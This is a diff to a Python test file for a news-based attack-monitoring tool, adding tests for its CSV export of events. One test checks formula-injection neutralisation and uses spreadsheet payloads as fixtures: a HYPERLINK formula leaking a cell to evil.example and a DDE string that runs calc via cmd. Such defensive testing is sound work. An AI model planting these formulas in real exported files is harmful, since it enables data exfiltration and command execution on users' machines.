@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 import re
 import time
@@ -13,7 +15,13 @@ import pytest
 from standardwebhooks import Webhook, WebhookVerificationError
 
 from monitor.http import sign
-from monitor.pipeline.alerts import alert_body, render_alert
+from monitor.pipeline.alerts import (
+    CSV_COLUMNS,
+    alert_body,
+    event_object,
+    events_csv,
+    render_alert,
+)
 from monitor.records import Attribution, Event, Outcome, Source
 from tests.conftest import ROOT
 
@@ -49,6 +57,10 @@ SAMPLE = Event(
 )
 
 
+def _like_sample(**fields: object) -> Event:
+    return Event(**{**{f: getattr(SAMPLE, f) for f in SAMPLE.__slots__}, **fields})  # type: ignore[arg-type]
+
+
 def test_readme_documents_the_alert_body() -> None:
     """The README's sample alert is exactly what the code renders for the same event."""
     readme = (ROOT / "README.md").read_text()
@@ -66,10 +78,6 @@ def test_every_format_renders_the_event(fmt: str) -> None:
     assert "Tower 22" in text
     assert "2024-01-28" in text
     assert "news.example" in text
-
-
-def _like_sample(**fields: object) -> Event:
-    return Event(**{**{f: getattr(SAMPLE, f) for f in SAMPLE.__slots__}, **fields})  # type: ignore[arg-type]
 
 
 def test_long_evidence_is_cut_to_the_service_limits() -> None:
@@ -191,3 +199,59 @@ def test_signature_verifies_with_the_standard_webhooks_library() -> None:
     other = "whsec_" + base64.b64encode(b"another key, thirty-two bytes.." + b"!").decode()
     with pytest.raises(WebhookVerificationError):
         Webhook(other).verify(body, headers)
+
+
+def test_csv_carries_every_field_of_the_event_object() -> None:
+    """The CSV has a column for each field of the JSON event object (location as latitude and
+    longitude, sources as URLs and as JSON), and a CSV reader gets the values back."""
+    flat = set(event_object(SAMPLE)) - {"location", "sources"}
+    assert set(CSV_COLUMNS) == flat | {"latitude", "longitude", "source_urls", "sources"}
+    (row,) = csv.DictReader(io.StringIO(events_csv([SAMPLE])))
+    assert list(row) == list(CSV_COLUMNS)
+    expected = event_object(SAMPLE)
+    for key in flat - {"weapons", "tracked", "id", "munitions_count", "attack_count"}:
+        assert row[key] == str(expected[key] if expected[key] is not None else ""), key
+    assert (float(row["latitude"]), float(row["longitude"])) == SAMPLE.location
+    assert json.loads(row["sources"]) == expected["sources"]
+    assert row["source_urls"] == SAMPLE.sources[0].url
+
+
+def test_csv_row_of_an_untracked_event_says_where_the_attack_was() -> None:
+    """An untracked event has no base or location; its row names the target as the article
+    did (base_mention)."""
+    untracked = _like_sample(
+        base_id=None, base_name=None, base_mention="a US base in northeastern Syria", location=None
+    )
+    (row,) = csv.DictReader(io.StringIO(events_csv([untracked])))
+    assert (row["base"], row["latitude"], row["tracked"]) == ("", "", "False")
+    assert row["base_mention"] == "a US base in northeastern Syria"
+
+
+def test_csv_neutralises_formulas_from_articles() -> None:
+    """Text cells a spreadsheet would run as formulas get a leading ' (OWASP); numbers, and
+    text with commas, quotes and line breaks, come back as written."""
+    hostile = _like_sample(
+        base_mention='=HYPERLINK("https://evil.example/?"&A1,"click")',
+        claimed_by="+cmd|' /C calc'!A0",
+        day_expression="-2+3",
+        location=(-33.5, -70.25),
+        sources=(
+            Source(
+                url="https://news.example/a",
+                title="@SUM(1,2)",
+                published_at=None,
+                evidence='He said, "drones hit",\nthen left.',
+            ),
+        ),
+    )
+    (row,) = csv.DictReader(io.StringIO(events_csv([hostile])))
+    assert row["base_mention"] == """'=HYPERLINK("https://evil.example/?"&A1,"click")"""
+    assert row["claimed_by"] == "'+cmd|' /C calc'!A0"
+    assert row["date_expression"] == "'-2+3"
+    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
+    (source,) = json.loads(row["sources"])
+    assert (source["title"], source["evidence"]) == (
+        "@SUM(1,2)",
+        'He said, "drones hit",\nthen left.',
+    )
+    assert not row["sources"].startswith(("=", "+", "-", "@"))
